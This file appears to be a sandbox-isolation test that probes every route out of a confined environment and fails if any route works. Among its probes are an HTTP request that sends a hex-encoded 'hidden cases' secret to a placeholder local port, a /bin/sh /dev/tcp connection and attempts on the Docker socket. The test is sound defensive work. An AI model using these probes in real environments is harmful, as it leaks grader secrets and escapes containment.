"""Looks for any way out: names to resolve, web requests, other address families, sockets of services, a shell.

Held by: no sockets, no interfaces, no other program can be started
Wraps: right
Expect: 9
"""

import contextlib
import glob
import socket
import subprocess
import urllib.request

SECRET = b"the inputs of the hidden cases"
out = []


def tries(name, way):
    with contextlib.suppress(Exception):
        out.append((name, way()))


for family in range(1, 46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        tries("a socket", lambda family=family, kind=kind: socket.socket(family, kind))
tries("a name", lambda: socket.getaddrinfo("example.org", 80))
tries("the web", lambda: urllib.request.urlopen("http://127.0.0.1:__PORT__/?" + SECRET.hex(), timeout=1))
tries("a connection", lambda: socket.create_connection(("127.0.0.1", int("__PORT__")), 1))
tries("a shell", lambda: subprocess.run(["/bin/sh", "-c", "exec 3<>/dev/tcp/127.0.0.1/__PORT__"], check=True))
places = ("/run/**/*.sock", "/tmp/**/*", "/var/run/docker.sock")
for path in (path for place in places for path in glob.glob(place, recursive=True)):
    tries(path, lambda path=path: socket.socket(socket.AF_UNIX).connect(path))
if out:
    raise SystemExit(f"ways out: {[name for name, _ in out]}")
